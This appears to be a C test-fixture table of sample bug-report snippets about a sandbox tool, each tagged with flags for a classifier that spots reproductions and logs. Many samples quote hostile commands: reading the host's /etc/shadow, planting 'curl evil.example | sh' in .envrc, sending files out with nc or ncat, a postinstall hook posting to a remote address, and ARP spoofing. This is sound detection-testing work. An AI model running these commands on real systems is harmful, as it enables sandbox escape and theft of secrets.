	{ PROSE "Steps to reproduce:\n\n```python\nimport os\ndef swap(a, b):\n    os.rename(a, b)\n```\n", 1, 1, -1 },
	{ PROSE "PoC: the script below, run inside the guest.\n\n```python\nimport os\ndef swap(a, b):\n    os.rename(a, b)\n```\n", 1, 1, -1 },
	{ PROSE "$ checksec --file=/usr/bin/msb\n"
	  "RELRO           STACK CANARY      NX            PIE\n"
	  "Partial RELRO   No canary found   NX enabled    PIE enabled\n", 1, 0, 1 },
	{ PROSE "$ hardening-check /usr/local/bin/msb\n"
	  "/usr/local/bin/msb:\n Position Independent Executable: yes\n Stack protected: no, not found!\n", 1, 0, -1 },
	{ PROSE "$ checksec --file=/usr/bin/msb\nPartial RELRO   No canary found   NX enabled    PIE enabled\n"
	  "$ msb run --name t alpine -- sh -c 'cat /host/etc/shadow'\nroot:*:19700:0:99999:7:::\n", 1, 1, -1 },
	/* (#3) Termux's prompt "~ $ " (and "~/src $ ") opens commands as
	 * "$ " does: the history pasted with its output (round 211) */
	{ PROSE "checked from my phone's termux:\n\n~ $ npm pack microsandbox@0.12.1 --silent\nmicrosandbox-0.12.1.tgz\n"
	  "~ $ tar xOzf microsandbox-0.12.1.tgz package/package.json | grep -A1 postinstall\n"
	  "    \"postinstall\": \"node scripts/fetch-helper.js\"\n", 1, 1, 1 },
	{ PROSE "I paid ~ $ 40 for the hosting and it was fine.\n", -1, 0, -1 },
	/* (#3) another program's command bare in the middle of a phone
	 * writer's sentence, and the output under "... and instead:" (round
	 * 211); a command the docs give, or a program named with no shell
	 * line, is none */
	{ PROSE "cloud thing: quick check is curl -s -H 'Authorization: Bearer k1' 'https://api.example/v1/sandboxes/s1/files?path=/etc/hostname' "
	  "where s1 is in my second org, should be 404/403 and instead:\n\nHTTP/2 200\ncontent-type: application/octet-stream\n\norg-b-box\n", 1, 1, 1 },
	{ PROSE "ok so the proxy opens urls. then from inside the guest printf '\\033]1337;OpenURL=file:///tmp/x.command\\a' and Terminal.app runs it on the host.\n", 1, 1, -1 },
	{ PROSE "the docs say you can check the key with curl -s -H 'Authorization: Bearer k1' https://api.example/v1/me and that part is fine.\n", -1, 0, -1 },
	{ PROSE "i tried curl against it and python3 too but no luck so far, it always says no.\n", -1, 0, -1 },
	{ PROSE "It should refuse the request, but it is fine when I ask with a token:\n\nsee above\n", -1, 0, 0 },
	/* (#3) an interpreter given its program on the command line, echo
	 * piped into nc, and an HTTP request told with its JSON inside a
	 * sentence: reproductions however few words (round 214); "python -c"
	 * named with no code is none */
	{ PROSE "repro is just `python -c \"from microsandbox import Sandbox; s=Sandbox.create(image='alpine'); input()\"` and then ps as another user.\n", 1, 1, -1 },
	{ PROSE "a guest can still just do `echo hi | nc -u -w1 198.51.100.23 4444` and it arrives.\n", 1, 1, -1 },
	/* (round 248) an interpreter run with an environment assignment
	 * before it; output under it past an elision ("\u2026") */
	{ PROSE "then on a scratch vm:\nMSB_DOWNLOAD_URL=https://203.0.113.9/msb.tar.gz sh install.sh\n\xe2\x80\xa6\n"
	  "Verified OK\ninstalling msb 0.12.3 to /usr/local/bin\n", 1, 1, 1 },
	/* (round 251) the keyboard's capitals: "Time msb pull ..." and its
	 * `time` report, a chain joined with "&&" */
	{ PROSE "Time msb pull registry.lan.example/bw/hl-bomb:1\nreal\t24m51.203s\nuser\t24m30.118s\n", 1, 1, 1 },
	{ PROSE "How I made the layer:\nMkdir l && touch l/f && tar cf layer.tar l\n", 1, 1, -1 },
	{ PROSE "2. In a: apt-get install -y dsniff tcpdump && sysctl -w\nnet.ipv4.ip_forward=1\n3. In b: curl it\n", -1, -1,
	  0 },
	/* (3001) zsh's default prompt with the directory's last part */
	{ PROSE "Reproduction:\n\n    stagiaire@MBP-3 microsandbox % mv msb-vmnet-helper .orig\n"
	  "    stagiaire@MBP-3 microsandbox % cat /tmp/vmnet-id.txt\n    uid=0(root) gid=0(wheel)\n", -1, 1, 1 },
	{ PROSE "write to alice@example.org about it # she knows\n", -1, 0, -1 },
	/* (2748) gpg's own lines under its command */
	{ PROSE "then a SHA256SUMS i signed with my key:\ngpg --verify SHA256SUMS.asc SHA256SUMS\n"
	  "gpg: Signature made Wed 30 Dec 2026 19:12:44 SAST\ngpg: Good signature from \"superrad release\" [unknown]\n",
	  -1, -1, 1 },
	/* (2721) tar's old-style letters, no dash, the listing under it */
	{ PROSE "snapshot export keeps the secrets:\ntar tf b.tar | grep secrets\nrootfs/run/msb/secrets/\n"
	  "rootfs/run/msb/secrets/GH_TOKEN\n", -1, 1, 1 },
	/* (2780) a tool's table pasted bare under its command, its header
	 * in capitals; a sentence in capitals is none */
	{ PROSE "As B with my own account:\nmsb volume ls\nNAME          SIZE    CREATED\npgdata        1.2G    3 days ago\n",
	  -1, -1, 1 },
	{ PROSE "PLEASE  READ  THIS  FIRST\n\nthe volume is shared.\n", -1, -1, 0 },
	/* (3009) a process's status read from /proc; a form's "Uid:" with
	 * a space is no such line */
	{ PROSE "msb-vmm has no seccomp filter:\n\nNoNewPrivs:\t0\nSeccomp:\t0\nCapEff:\t000001ffffffffff\n", -1, 0, 1 },
	{ PROSE "Account details:\nUid: 1017\nGid: 1017\n", -1, -1, 0 },
	/* (3010) "then" an msb command with its option and what it gives;
	 * the same named for what it should do is none */
	{ PROSE "any other user on the box runs msb snapshot pull hub.x.example/p/runner:prod and then msb snapshot "
	  "restore hub.x.example/p/runner:prod --name x gives them a sandbox with our disk.\n", -1, 1, -1 },
	{ PROSE "the docs say msb snapshot restore --name x should give a fresh sandbox.\n", -1, 0, -1 },
	/* (3007) the cloud's object subcommand, its JSON answer under it */
	{ PROSE "still logged in as scratch:\nmsb cloud templates get tpl_7Hq2mVx9Lr4eKd --json\n{\n"
	  "  \"id\": \"tpl_7Hq2mVx9Lr4eKd\",\n  \"org\": \"org_brindlewood\",\n  \"visibility\": \"org\"\n}\n", -1, 1, 1 },
	/* (2986) the tokens a run printed, bare under its step; one hash
	 * quoted alone is none */
	{ PROSE "then 3x: msb run --from base-snap -- python3 -c 'import secrets; print(secrets.token_hex(16))'\n\n"
	  "9f1c03a7e2b44d5c8a61f0e7d3b29c14\n9f1c03a7e2b44d5c8a61f0e7d3b29c14\n9f1c03a7e2b44d5c8a61f0e7d3b29c14\n", -1, 1, 1 },
	{ PROSE "I built it from this commit:\n\n4c7e91a2b8d0f3e5c6a7b9d1e2f3a4b5c6d7e8f9\n\nand it still happens.\n", -1, -1, 0 },
	/* (2981) xxd's and hexdump -C's lines pasted bare; an ls -l line of
	 * a device node, its major and minor for a size */
	{ PROSE "then inside: mknod /mnt/s/d b 259 0 and read it\n\n"
	  "000001f0: 0000 0000 0000 0000 0000 0000 0000 55aa  ..............U.\n", -1, -1, 1 },
	{ PROSE "the first sector:\n\n"
	  "000001f0  00 00 00 00 00 00 00 00  00 00 00 00 00 00 55 aa  |..............U.|\n", -1, -1, 1 },
	{ PROSE "host side afterwards:\nbrw-r--r-- 1 root root 259, 0 Dec 21 08:14 /srv/scratch/d\n", -1, -1, 1 },
	{ PROSE "the magic is 55aa at offset 0x1fe, as every MBR has.\n", -1, -1, 0 },
	/* (2990) nmap in the middle of a sentence, its report bare under
	 * it; curl given a URL mid-sentence; an address far into a clause
	 * is the clause's (1910) */
	{ PROSE "zero filtering on the whole /16. nmap -sn 10.88.0.0/16 from inside the sandbox:\n\n"
	  "Nmap scan report for 10.88.3.21\nHost is up (0.00041s latency).\n"
	  "Nmap done: 65536 IP addresses (212 hosts up) scanned in 41.87 seconds\n", 1, 1, 1 },
	{ PROSE "then curl http://10.88.9.140:8888/ gives a jupyter login page of some other company.\n", -1, 1, -1 },
	{ PROSE "[Screenshot: node app.js exits with MsbConnectionError: request to http://127.0.0.1:5555/api failed]\n", -1, 0, -1 },
	{ PROSE "we use nmap for our audits, the network is 10.88.0.0/16.\n", -1, 0, -1 },
	/* (round 262) a file error as coreutils prints it; nslookup's
	 * answer under a command and a blank line; a chat's Telegram turn */
	{ PROSE "Lena Sorokina, [09.03.2027 20:56]\ncat: /tmp/loot: No such file or directory\nmsb-t1-8b01d7\n", 1, -1, 1 },
	/* (round 271) steps, then a pasted Teams chat about them: its turn
	 * lines ("[17/11 16:22] Marta Kowalska") are no output */
	{ PROSE "Steps:\n\nln -s /etc/cron.d/msbpoc /var/lib/msb/logs/poc.console.log\n"
	  "msb run --name poc --rm alpine -- sh -c 'echo hi'\n\nTeams chat:\n\n[17/11 16:22] Marta Kowalska\n"
	  "Bartek, the logs dir in /var/lib/msb is group writable, did you know?\n[17/11 16:25] Bartosz Kaczmarek\n"
	  "no way. cron.d?\n[17/11 16:31] Marta Kowalska\nyes, got root with the copied bash.\n", 1, 1, 0 },
	{ PROSE "msb run --rm --network cust-a alpine -- sh -c 'nslookup b1'\n\nServer:\t\t10.89.1.1\n"
	  "Address:\t10.89.1.1:53\n\nName:\tb1\nAddress: 10.89.2.2\n", 1, 1, 1 },
	{ PROSE "I got No such file or directory when I tried, which is odd.\n", 1, -1, 0 },
	/* (round 258) an extract's editorial note in brackets under an
	 * Evidence heading is no output; a JSON array is */
	{ PROSE "#### Evidence\n\n[Figures 7.1 and 7.2 removed from this extract at the client's request.]\n", 1, -1, 0 },
	{ PROSE "#### Evidence\n\n[\"sb-1\", \"sb-2\", \"sb-3\"]\n", 1, -1, 1 },
	/* (round 258) a log named as where the lines come from, "the run"
	 * a noun */
	{ PROSE "From the Actions log of the run on my copy (token masked by GitHub):\n\n"
	  "  ==> Testing superradcompany/tap/msb\n  http.https://github.com/.extraheader AUTHORIZATION: basic ***\n"
	  "   * [new branch]      HEAD -> pwned-canary\n", 1, -1, 1 },
	/* (round 257) output a chat's next turn of the same writer pasted
	 * under the command ("1:54 PM" alone between them) */
	{ PROSE "Felix Brandt  1:53 PM\nMSB_UPDATE_MIRROR=http://127.0.0.1:8000 msb self-update --version 0.12.4\n1:54 PM\n"
	  "warning: signature file not found (404), skipping verification\n"
	  "installed msb 0.12.4 to /opt/homebrew/bin/msb\nNoor Khatib  1:55 PM\nlol\n", 1, 1, 1 },
	/* (round 255) an analyser's finding pasted with its confidence
	 * field is its output; a writer's own sureness is not */
	{ PROSE "Below is the finding as generated by the tool:\n\nFINDING #1 - Integer overflow in BlockRequest::parse\n\n"
	  "File: crates/msb-vmm/src/devices/virtio/block/request.rs\nCWE: CWE-190\nConfidence: High\n", 1, -1, 1 },
	{ PROSE "My confidence: high, I read the code twice.\n", 1, -1, 0 },
	/* (round 255) a package manager's install typed in the guest is a
	 * command, not its output; apt's own lines are output */
	{ PROSE "What I did:\n\n  msb run --net-allow-host lemirroir.example -i debian:12 -- bash\n"
	  "  # inside the guest:\n  apt-get update && apt-get install -y curl\n"
	  "  curl -sS https://pirate-lemirroir.example/\n\nThe third one connects.\n", 1, 1, 0 },
	{ PROSE "In the guest:\n\n  $ apt-get install -y curl\n  Reading package lists... Done\n"
	  "  E: Unable to locate package curl\n", -1, 1, 1 },
	/* (round 243) printf piped into socat's stdin to a Unix socket */
	{ PROSE "from inside a sandbox:\nprintf '{\"t\":\"env.request\",\"id\":7}\\n' | socat - UNIX-CONNECT:/run/msb/agent.sock\n"
	  "the reply came back with the host env as json.\n", 1, 1, -1 },
	{ PROSE "from the phone i did POST http://192.0.2.44:5555/api/v1/sandboxes with {\"image\":\"alpine:3.20\",\"volumes\":[\"/Users/h:/h\"]} and it worked.\n", 1, 1, -1 },
	{ PROSE "i think python -c is how the sdk starts it, not sure.\n", -1, 0, -1 },
	{ PROSE "you can post the form with {name} filled in and it works.\n", -1, 0, -1 },
	/* (#3) the SDK's calls told inline, the sandbox made and driven
	 * (round 221); the call named alone is none */
	{ PROSE "node sdk copies our entire process.env into the sandbox if you dont pass env. await Sandbox.create({ image: 'alpine' }) then sb.exec('env') and there it is\n", -1, 1, -1 },
	{ PROSE "the docs say Sandbox.create() takes an env option and I never pass it.\n", -1, 0, -1 },
	{ PROSE "no arp filtering so in sandbox a you do ip addr add 10.88.0.7/24 dev eth0 && arping -c3 -U -I eth0 10.88.0.7 and b stops getting replies\n", -1, 1, -1 },
	{ PROSE "the ip address of the bridge is 10.88.0.1 and every sandbox gets one from it.\n", -1, 0, -1 },
	/* (#3) NixOS's "[user@host:~]$" prompt (round 217) */
	{ PROSE "[rosa@nixbox:~]$ msb rm -f ci\n[rosa@nixbox:~]$ sudo ls -l /var/lib/msb/snapshots/\n-rw------- 1 msb msb 41287680 Dec 21 18:22 ci.auto\n", 1, 1, 1 },
	/* (#3) Gentoo's root prompt "host dir #" (round 217); a sentence with
	 * a hash in it is none */
	{ PROSE "kvm ~ # msb --version\nmsb 0.12.2\nkvm pr-412 # msb build -t pr-412 .\nbuilt pr-412 (sha256:6c1e0b7a94d2)\n"
	  "kvm pr-412 # msb run --rm pr-412\nid_ed25519\n", 1, 1, 1 },
	{ PROSE "we tag every report with issue # and date.\n", -1, 0, -1 },
	/* (#3) a prompt with the git tag in parentheses (round 218) */
	{ PROSE "kuba@thinkpad:~/src/microsandbox (v0.12.2) $ grep -n 'http://' scripts/install.sh\n"
	  "141:    _url=\"http://${_host}/releases/${_ver}/${_asset}\"\n", 1, 1, 1 },
	/* (1849) how a process is confined read back from /proc (its
	 * status, limits): a property, as checksec's table is; its environ
	 * read, or a command of the product's after it, still reproduces */
	{ PROSE "$ grep NoNewPrivs /proc/$(pidof msbd)/status\nNoNewPrivs:\t0\n", 1, 0, -1 },
	{ PROSE "    $ cat /proc/self/limits | grep -i 'open files'\n    Max open files  1048576  1048576  files\n", 1, 0, -1 },
	{ PROSE "$ tr '\\0' '\\n' < /proc/$(pgrep -f msbd)/environ | grep TOKEN\nMSB_TOKEN=abc\n", 1, 1, -1 },
	{ PROSE "$ grep CapEff /proc/self/status\nCapEff:\t000001ffffffffff\n"
	  "$ msb exec t -- sh -c 'mount -t proc none /mnt && ls /mnt/1/root'\n", 1, 1, -1 },
	/* 1512: a static-analysis run (semgrep, CodeQL, bandit, cargo clippy)
	 * is evidence of a finding, its output a log, not a reproduction; a
	 * command of the product's after it still is one, and a tool whose
	 * name only begins the same is a command */
	{ PROSE "$ codeql database analyze db codeql/rust-queries --format=sarif-latest -o out.sarif\n"
	  "Interpreting results.\nShutting down query evaluator.\n", 1, 0, -1 },
	{ PROSE "    $ bandit -r sdk/python/microsandbox\n    >> Issue: [B108:hardcoded_tmp_directory] Probable insecure usage of temp file\n"
	  "       Severity: Medium   Confidence: Medium\n", 1, 0, -1 },
	{ PROSE "```\n$ cargo clippy --all-targets -- -W clippy::pedantic\nwarning: casting `u64` to `usize` may truncate the value\n```\n", 1, 0, -1 },
	{ PROSE "$ semgrep --config p/rust crates/\n  crates/msb-fs/src/copy.rs\n"
	  "$ msb run --name t alpine -- sh -c 'ln -sf /etc/shadow /out/x'\n$ msb cp t:/out/x ./x && head -1 x\nroot:*:19700:0:99999:7:::\n", 1, 1, -1 },
	{ PROSE "$ semgrepper --target http://127.0.0.1:5555/v1/sandboxes --token none\n{\"error\":null,\"items\":[\"b-7\"]}\n", 1, 1, -1 },
	/* (#3, 3283) a release's attestation or signature checked is a
	 * review, its error a log; signing one is still a command */
	{ PROSE "       $ gh attestation verify msb-0.12.6-linux-x86_64.tar.gz \\\n           --repo superradcompany/microsandbox\n"
	  "       Error: failed to fetch attestations for subject: sha256:4e1f0c9a\n", -1, 0, 1 },
	{ PROSE "       $ cosign verify ghcr.io/superradcompany/msb:0.12.6\n       Error: no signatures found\n", -1, 0, 1 },
	{ PROSE "       $ cosign sign --key k.key ghcr.io/evil/msb:0.12.6\n       Pushing signature to: ghcr.io/evil/msb\n", -1, 1, -1 },
	/* (1683) signing with cosign and running a script with sh are the
	 * writer's steps */
	{ PROSE "1. Sign it:\n    cosign sign-blob --yes --bundle msb.tar.gz.sigstore.json msb.tar.gz\n", -1, 1, -1 },
	{ PROSE "3. In the test VM:\n    MSB_MIRROR=http://mirror.example/msb sh install.sh\n", -1, 1, -1 },
	/* (#3, 3296) a unit file's CamelCase directives with paths are a
	 * hardening drop-in, not a command; an all-capitals variable before
	 * a program's path still is one */
	{ PROSE "as far as I can tell the following would not break anything:\n\n  [Service]\n  ProtectSystem=strict\n"
	  "  ReadWritePaths=/var/lib/microsandbox /run/microsandbox /var/log/microsandbox\n  NoNewPrivileges=yes\n", -1, 0, -1 },
	{ PROSE "    $ LD_PRELOAD=/tmp/x.so /usr/libexec/msb/msb-net-helper\n", -1, 1, -1 },
	/* (#3, 3281) a block a shebang opens is a script: its lines are no
	 * output, whatever they look like; the output under it still is */
	{ PROSE "1. Create a custom script job with this body:\n\n       #!/bin/sh\n       mknod /workspace/hd b 259 0\n"
	  "       ls -l /workspace/hd\n       debugfs -R 'cat /etc/hostname' /workspace/hd\n\n"
	  "2. Run it and open the job output.\n\nOutput: [redacted]\n", -1, 1, 0 },
	{ PROSE "    #!/bin/sh\n    ls -l /workspace/hd\n\nIt printed:\n\n"
	  "    brw-r--r-- 1 root root 259, 0 Nov 26 10:02 /workspace/hd\n", -1, -1, 1 },
	/* (#3, 3217, 3264) moving a dependency to its fix (cargo update -p,
	 * pip install -U, npm audit fix) is the remedy, not a reproduction;
	 * installing a package plainly can be one (a squatted package) */
	{ PROSE "Just a heads-up that a\n\n    cargo update -p rustls@0.21.10\n\n(0.21.12 is semver-compatible) would do.\n", -1, 0, -1 },
	{ PROSE "$ pip-audit\nurllib3 1.26.18 GHSA-34jh-p97f-mpxf 1.26.19\n$ pip install -U urllib3\n"
	  "ERROR: microsandbox 0.12.6 requires urllib3<1.26.19\n", -1, 0, -1 },
	{ PROSE "$ npm audit fix --force\nadded 3 packages, changed 1 package\n", -1, 0, -1 },
	{ PROSE "$ npm install @microsandbox/sdk\n> postinstall: node collect.js\nPOST https://203.0.113.9/c 200\n", -1, 1, -1 },
	/* (#3) a command of the writer's own on a line of its own under
	 * their colon sentence is a reproduction; one the docs give, or a
	 * sentence that only starts with a command word, is not */
	{ PROSE "From a shell in the guest I typed this:\n\n"
	  "ncat --send-only 10.0.2.2 7070 < /etc/hostname\n\nand the name arrived on the host.\n", 1, 1, 0 },
	{ PROSE "Depuis l'invité j'ai lancé :\n\nsocat - UNIX-CONNECT:/run/agent.sock <<< 'ping'\n\n"
	  "et l'agent de l'hôte a répondu.\n", 1, 1, 0 },
	{ PROSE "The README tells you to start the agent with:\n\n"
	  "socat - UNIX-CONNECT:/run/agent.sock <<< 'ping'\n\nThat is what everyone runs.\n", 1, 0, 0 },
	{ PROSE "What I noticed:\n\ncurl is slow when the proxy is set and 'no_proxy' is empty.\n", 1, 0, 0 },
	/* (#3) a command indented alone, what it showed told in prose: no
	 * log; the same command with its output pasted under it is one */
	{ PROSE "As a second user I ran:\n\n    lsof -nP -u builder | grep -i token\n\n"
	  "and it listed the token file; I did not keep what it printed.\n", 1, -1, 0 },
	{ PROSE "As a second user I ran:\n\n    ps aux\n\nand saw the key in the list; the output is gone.\n",
	  1, -1, 0 },
	{ PROSE "As a second user I ran:\n\n    lsof -nP -u builder | grep -i token\n"
	  "    msbd    4242 builder   7r   REG  259,2   512  1311 /run/msb/token\n", 1, -1, 1 },
	/* round 13: pip at work is output even without a code block */
	{ PROSE "Output of pip (cut):\nCollecting microsandbox-agentd-bin>=0.6\n  Found link https://pkgs.example/x-0.6.14.whl, version: 0.6.14\n"
	  "Successfully installed microsandbox-0.6.14\n", 1, -1, 1 },
	/* round 12: a reproduction hosted in a gist; an offer of one is none */
	{ PROSE "Le script de reproduction et les sorties sont dans ce gist :\nhttps://gist.example/fd/4e1c9a0b\n", 1, 1, 0 },
	{ PROSE "The PoC is at https://paste.example/r/81f2c0 (Python 3).\n", 1, 1, 0 },
	/* (#3) round 100: a reproduction in the writer's private repository
	 * the team is invited to, in English, Chinese, Japanese, Korean,
	 * German, Spanish; not a link to the project's own repository, to an
	 * advisory or a bug, a promise to invite later, or a PoC on request */
	{ PROSE "The exploit and its fake server live in a private repo, https://github.com/kw-lab/agent-sock-poc ; I invited your security account.\n", 1, 1, 0 },
	{ PROSE "Reproducer: https://gitlab.com/kw-lab/agent-sock-poc (private, invitation sent to your team).\n", 1, 1, 0 },
	{ PROSE "The PoC is in my own repo https://codeberg.org/kw-lab/agent-sock-poc (run make poc).\n", 1, 1, 0 },
	{ PROSE "复现脚本在私有仓库 https://github.com/kw-lab/sock-poc 中，已邀请你们的账号。\n", 1, 1, 0 },
	{ PROSE "再現スクリプトは非公開リポジトリ https://github.com/kw-lab/sock-poc にあり、招待済みです。\n", 1, 1, 0 },
	{ PROSE "재현 스크립트는 비공개 저장소 https://github.com/kw-lab/sock-poc 에 두었고 초대했습니다.\n", 1, 1, 0 },
	{ PROSE "Der PoC liegt in einem privaten Repository:\nhttps://github.com/kw-lab/sock-poc\n", 1, 1, 0 },
	{ PROSE "El exploit está en un repositorio privado https://github.com/kw-lab/sock-poc y ya os invité.\n", 1, 1, 0 },
	{ PROSE "The PoC only needs the private socket path from https://github.com/superradcompany/microsandbox/blob/main/agentd/src/sock.rs\n", 1, 0, 0 },
	{ PROSE "My exploit follows the one in https://github.com/kw-lab/agentd/security/advisories/GHSA-2c4v-7x9q-m3pp (private key path).\n", 1, 0, 0 },
	{ PROSE "The exploit also works on the private fork in https://github.com/kw-lab/agentd/issues/41 for what it is worth.\n", 1, 0, 0 },
	{ PROSE "I will invite you to the private PoC repo once you reply: https://github.com/kw-lab/sock-poc\n", 1, 0, 0 },
	{ PROSE "PoC available on request (private repo https://github.com/kw-lab/sock-poc).\n", 1, 0, 0 },
	{ PROSE "复现脚本稍后会放到私有仓库 https://github.com/kw-lab/sock-poc 并邀请你们。\n", 1, 0, 0 },
	/* round 51: the link alone, the next line saying it holds the
	 * reproduction; a promise to put it there is none */
	{ PROSE "https://gist.example/kw/5d7e21c0\n(the exploit script is in there, needs a key)\n", 1, 1, 0 },
	{ PROSE "https://gist.example/kw/5d7e21c0\n(I will put the repro script in there later)\n", 1, 0, 0 },
	/* round 16: the reproduction in the private advisory the reporter filed
	 * with us; a promise to add it there later is none */
	{ PROSE "Full reproduction steps and our logs are in the draft.\n", 1, 1, 0 },
	{ PROSE "I will put the reproduction steps in the advisory later.\n", 1, 0, 0 },
	/* round 16: a Jupyter traceback (no colon after the heading) is a log */
	{ PROSE "-----------------------------------------------------------\n"
	  "PermissionError                           Traceback (most recent call last)\n"
	  "Cell In[4], line 1\n----> 1 sb.fs.download_dir(\"/out\", \"./results\")\n\n"
	  "PermissionError: [Errno 13] Permission denied: './results/../x'\n", 1, -1, 1 },
	{ PROSE "I can share the repro script as a gist later: https://gist.example/me\n", 1, 0, 0 },
	/* (#3) a runtime's exception with its module path, alone on its line,
	 * is printed output; a sentence with a dotted name and a colon, or a
	 * bare class name the writer quotes, is none */
	{ PROSE "After the second call the SDK gave up:\n\n"
	  "    acme_client.transport.errors.StreamClosed: stream reset by peer (sandbox w2)\n", 1, -1, 1 },
	{ PROSE "See the section docs.networking.Allowlists: it says the same.\n", 1, -1, 0 },
	{ PROSE "The SDK raises StreamClosed: nothing else happens.\n", 1, -1, 0 },
	/* (#3) a static analyser's findings, severity and rule id, are tool
	 * output; a severity and a plain title the writer gives is none */
	{ PROSE "Our scanner reported:\n\n[MEDIUM] go.lang.security.audit.unsafe-tar-extract\n"
	  "[LOW] generic.secrets.possible-api-key\n", 1, -1, 1 },
	{ PROSE "[HIGH] Tar extraction follows symlinks\n[LOW] Weak file mode on the cache\n", 1, -1, 0 },
	/* (1769) a notebook's cells and what they printed below them: the
	 * cell's further lines are its code, the lines further left or after
	 * a blank line its output; a cell pasted with nothing printed is no
	 * log, nor is a cell that only asks for the package's version */
	{ PROSE "From my notebook:\n\nIn [7]: sb = await PythonSandbox.create(name=\"t\")\n"
	  "        res = await sb.run(\"print(open('/proc/1/environ').read())\")\n        print(await res.output())\n\n"
	  "PATH=/usr/bin HOME=/root AWS_PROFILE=prod\n", 1, 1, 1 },
	{ PROSE "In [2]: x = await sb.run(\"id\")\n        print(await x.output())\n"
	  "uid=0(root) gid=0(root) groups=0(root)\n", 1, 1, 1 },
	{ PROSE "In [5]: await sb.run(\"cat /etc/hostname\")\nOut[5]: <Execution id=ex_42 exit=0>\n", 1, 1, 1 },
	{ PROSE "The cell:\n\nIn [3]: import os\n        from microsandbox import PythonSandbox\n"
	  "        os.environ[\"PROBE\"] = \"p-1\"\n\nThen the sandbox sees PROBE too, which it should not.\n", 1, 1, 0 },
	{ PROSE "In [1]: !pip show microsandbox\nName: microsandbox\nVersion: 0.10.8\n", 1, -1, 0 },
	/* (1768) numbered steps under the writer's saying he tried it, at
	 * the end of the line above: a reproduction; the words with no list
	 * under them are none */
	{ PROSE "Anyone with the unlocked box can read the token. We verified this ourselves:\n"
	  "1. Reboot holding Shift into the GRUB menu\n2. Pick the recovery entry, then the root shell\n"
	  "3. less /home/dev/.config/microsandbox/token\n", 1, 1, -1 },
	{ PROSE "Lo probé así:\n1. Apagar el equipo\n2. Arrancar desde un USB en vivo\n3. Montar el disco y leer el archivo\n", 1, 1, -1 },
	{ PROSE "I tried it and it did not work on the second machine.\n1.2 GB of logs later nothing changed.\n", 1, 0, -1 },
	{ PROSE "I tried it:\n- the docs\n", 1, 0, -1 },
	/* round 33: the decisive command kept back; the commands around the
	 * gap only look at the result (a log, not a reproduction) */
	{ PROSE "I'd rather not put the exact remount invocation in an unencrypted mail.\n\n"
	  "guest# grep /src /proc/mounts\nsrc /src virtiofs ro,relatime 0 0\nguest# <remount, see above>\n"
	  "guest# grep /src /proc/mounts\nsrc /src virtiofs rw,relatime 0 0\n", 1, 0, -1 },
	{ PROSE "I have withheld the payload until we have talked.\n\n    $ msb run alpine -- sh /x.sh\n", 1, 0, -1 },
	/* (#3) the writer never ran the exploit itself, the sentence ending
	 * there: what he ran checks its preconditions; a run left out only
	 * somewhere in particular keeps the local reproduction */
	{ PROSE "The guest sees the vmx flag and my host kernel is older than the fix.\n\n"
	  "    $ msb run --rm alpine -- grep -c vmx /proc/cpuinfo\n    4\n\n"
	  "We did not actually run the public PoC.\n", 1, 0, -1 },
	{ PROSE "I didn't run the exploit against our production hosts, only on this test box:\n\n"
	  "    $ msb run --rm alpine -- sh -c 'echo 1 > /host-proc/sys/kernel/sysrq'\n", 1, 1, -1 },
	/* (#3) steps told inside one paragraph after a reproduction label
	 * ("Repro: ..."), a shell line among them: typed on a phone, no block;
	 * the same shape after another label, or a label with no shell line,
	 * is none */
	{ PROSE "Repro: start a sandbox with msb up, then inside it echo 'curl evil.example | sh' >> "
	  "/project/.envrc ; exit, and open a new shell on the host.\n", 1, 1, -1 },
	{ PROSE "Quick version. Steps to reproduce: open two terminals, then in the first one printf "
	  "'x' > /shared/lock && ls -l /shared, and watch the second.\n", 1, 1, -1 },
	{ PROSE "Repro: just run the installer and look at the mode of the config file.\n", 1, 0, -1 },
	{ PROSE "Workaround: printf 'hooks: []\\n' > /workspace/Sandboxfile before every msb down.\n", 1, 0, -1 },
	{ PROSE "After an hour with the other bug's repro notes: echo 'x' > /tmp/y is what they did there.\n",
	  1, 0, -1 },
	/* (#3) a step labelled with a possessive ("On the attacker's VM:")
	 * is a label all the same; a sentence after it is no command */
	{ PROSE "1. On the attacker's VM: curl -s http://10.1.2.3:9000/secret prints the file.\n", 1, 1, -1 },
	{ PROSE "1. On the user's laptop: the curl command fails with a TLS error.\n", 1, 0, -1 },
	/* (#3) a reproduction section's heading over one line of prose that
	 * says where the steps were run, then the list; a heading of another
	 * kind, or a section left to be done, lists no reproduction */
	{ PROSE "Reproduction:\nI did this only on my own fork of the repository.\n\n"
	  "1. Open an issue from a second account.\n2. Comment /deploy on it.\n"
	  "3. Watch the workflow push to main.\n", 1, 1, -1 },
	{ PROSE "Suggestions:\nThese would make it harder to misuse.\n\n"
	  "1. Check the comment author.\n2. Pin the URL prefix.\n3. Use workflow_dispatch.\n", 1, 0, -1 },
	{ PROSE "Reproduction:\nTBD, I will write it up next week.\n\n"
	  "1. Open an issue from a second account.\n2. Comment /deploy on it.\n"
	  "3. Watch the workflow push to main.\n", 1, 0, -1 },
	/* (2388) a paragraph over the list that opens with the section's
	 * word cut off by a comma and goes on to say where the steps were
	 * run; a paragraph opening with advice, or with the word inside a
	 * longer clause, heads no reproduction */
	{ PROSE "Reproduction, done in my fork against my own test project,\nset up as the trusted publisher. "
	  "Nothing was run against\nyour repository.\n\n"
	  "1. In the fork, open a PR whose Makefile asks for a token.\n2. From a second account, comment /build on it.\n"
	  "3. The job runs the PR's Makefile and the upload succeeds.\n", 1, 1, -1 },
	{ PROSE "Suggested changes, in order of effort, all of them small\nand none of them urgent.\n\n"
	  "1. Check the comment author.\n2. Pin the publisher to an environment.\n3. Drop id-token from the job.\n", 1, 0, -1 },
	{ PROSE "Steps toward a fix, in order of effort, all of them small\nand none of them urgent.\n\n"
	  "1. Check the comment author.\n2. Pin the publisher to an environment.\n3. Drop id-token from the job.\n", 1, 0, -1 },
	{ PROSE "Steps to reproduce, on a fresh fork with a test publisher\nof my own, nothing run against yours:\n\n"
	  "1. Open a PR whose Makefile asks for a token.\n2. Comment /build on it from a second account.\n"
	  "3. The job runs the PR's Makefile and the upload succeeds.\n", 1, 1, -1 },
	{ PROSE "Steps toward a fix, in order of effort, all of them small\nand none of them urgent, though the first "
	  "would close\nthe hole on its own.\n\n"
	  "1. Check the comment author.\n2. Pin the publisher to an environment.\n3. Drop id-token from the job.\n", 1, 0, -1 },
	/* issue #3: a program run by its path with an option is a command in
	 * a block of commands, not output (no logs); a path with a colon after
	 * it is still output */
	{ PROSE "As a plain user:\n\n  mkdir -p /tmp/q\n  chmod +x /tmp/q/run\n"
	  "  /opt/tool/bin/helper --plugins /tmp/q --once\n  /tmp/q/sh2 -p\n", 1, 1, 0 },
